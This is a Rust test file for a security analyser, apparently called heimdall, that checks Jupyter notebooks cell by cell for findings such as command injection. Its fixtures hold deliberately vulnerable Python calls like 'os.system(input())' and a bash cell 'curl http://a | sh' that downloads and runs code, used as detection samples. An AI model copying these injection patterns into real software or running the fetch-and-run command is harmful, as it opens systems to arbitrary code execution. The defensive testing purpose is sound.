//! Notebooks are analysed cell by cell.

use heimdall::{AnalysisReport, AnalysisRequest, AnalysisType, Suppressions, analyze};
use serde_json::{Value, json};

fn request(path: Option<&str>, language: Option<&str>, source: &str) -> AnalysisReport {
    let (kind, suppressions) = (AnalysisType::Security, Suppressions::Honor);
    analyze(&AnalysisRequest {
        source,
        file_path: path,
        language,
        kind,
        suppressions,
        framework: None,
        dependencies: &[],
    })
}

fn notebook(cells: &[(&str, Value)]) -> Value {
    let cells: Vec<Value> = cells
        .iter()
        .map(|(kind, source)| json!({"cell_type": kind, "metadata": {}, "outputs": [], "source": source}))
        .collect();
    json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"language": "python"}}, "cells": cells})
}

fn found(report: &AnalysisReport) -> Vec<(&str, u32)> {
    report.findings.iter().map(|finding| (finding.rule.as_str(), finding.line_start)).collect()
}

const COMMAND: &str = "PY-COMMAND-INJECTION";

/// Returns the line of the document that contains a text.
fn line_of(document: &str, text: &str) -> u32 {
    let at = document.lines().position(|line| line.contains(text)).expect("the document contains the text");
    u32::try_from(at + 1).expect("a short document")
}

#[test]
fn values_flow_between_cells_and_lines_refer_to_the_document() {
    let cells = notebook(&[
        ("markdown", json!(["# os.system(input())\n", "\\u0022 \""])),
        ("code", json!(["%matplotlib inline\n", "import os\n", "name = input()\n", "!pip install x\n"])),
        ("code", json!("\"\"\"\n\"\"\"")),
        ("code", json!(["y = 1\n", "os.system('ls ' + name)"])),
    ]);
    let document = serde_json::to_string_pretty(&cells).expect("JSON");
    for (path, language) in
        [(Some("a/n.ipynb"), None), (None, None), (Some("n.ipynb"), Some("python")), (None, Some("jupyter"))]
    {
        let report = request(path, language, &document);
        assert_eq!(found(&report), [(COMMAND, line_of(&document, "'ls '"))], "{path:?} {language:?}");
        assert!(report.parsed && report.language == "python", "{report:?}");
        assert!(report.findings[0].description.contains("In cell 4, line 2."), "{report:?}");
    }
    let minified = cells.to_string();
    assert_eq!(found(&request(Some("n.ipynb"), None, &minified)), [(COMMAND, 1)]);
}

#[test]
fn a_broken_cell_does_not_hide_the_others() {
    let cells = notebook(&[
        ("code", json!("import os\nname = input()")),
        ("code", json!("x = '''\nf(")),
        ("code", json!("os.system('ls ' + name)")),
        ("code", json!("%%bash\ncurl http://a | sh\n")),
        ("code", json!("%%html\n<b>os.system(input())</b>")),
    ]);
    let document = serde_json::to_string_pretty(&cells).expect("JSON");
    let report = request(Some("n.ipynb"), None, &document);
    let mut rules: Vec<_> = found(&report);
    rules.sort();
    assert!(rules.contains(&(COMMAND, line_of(&document, "'ls '"))), "{report:?}");
    assert!(rules.contains(&("SH-DOWNLOAD-AND-RUN", line_of(&document, "curl"))), "{report:?}");
    assert!(rules.contains(&("PY-SYNTAX", line_of(&document, "x = '''"))) && !report.parsed, "{report:?}");
}

#[test]
fn comments_in_cells_accept_findings() {
    let cells = notebook(&[("code", json!(["import os\n", "os.system(input())  # nosec\n", "os.system(input())\n"]))]);
    let report = request(Some("n.ipynb"), None, &serde_json::to_string_pretty(&cells).expect("JSON"));
    assert_eq!((report.findings.len(), report.suppressed.len()), (1, 1), "{report:?}");
}

#[test]
fn nbformat_3_and_other_kernels_are_supported() {
    let third = json!({"nbformat": 3, "worksheets": [{"cells": [
        {"cell_type": "code", "input": ["import os\n", "os.system(input())"], "language": "python"}]}]});
    assert_eq!(found(&request(Some("n.ipynb"), None, &third.to_string())), [(COMMAND, 1)]);
    let mut other = notebook(&[("code", json!("system(readline())"))]);
    other["metadata"] = json!({"language_info": {"name": "R"}});
    assert!(request(Some("n.ipynb"), None, &other.to_string()).tools.is_empty());
    let cut = "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os";
    assert!(request(Some("n.ipynb"), None, cut).tools.is_empty());
}

#[test]
fn equal_cells_have_distinct_fingerprints() {
    let cell = || ("code", json!("import os\nos.system(input())"));
    let report = request(Some("n.ipynb"), None, &notebook(&[cell(), cell()]).to_string());
    assert_eq!(report.findings.len(), 2);
    assert_ne!(report.findings[0].fingerprint, report.findings[1].fingerprint);
}

#[test]
fn malformed_documents_are_still_analysed() {
    let mut document = notebook(&[("code", json!("import os\nos.system(input())"))]);
    document["nbformat"] = json!(4.0);
    document["metadata"] = json!({"language_info": {"name": "ipython"}});
    document["cells"][0].as_object_mut().expect("a cell").remove("cell_type");
    assert_eq!(found(&request(Some("n.ipynb"), None, &document.to_string())), [(COMMAND, 1)]);
    let raw = r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["a = '\\\\u\ud83d \ud83d\ude00'\n", "import os\n", "os.system(input())"]}]}"#;
    assert_eq!(found(&request(Some("n.ipynb"), None, raw)), [(COMMAND, 1)]);
}

#[test]
fn skipped_cells_lower_the_confidence() {
    let confidence = |kind: &str| {
        let cell = format!("%%{kind}\nx = 1\n");
        request(Some("n.ipynb"), None, &notebook(&[("code", json!(cell))]).to_string()).confidence
    };
    assert!(confidence("writefile a.py") < confidence("time"));
}
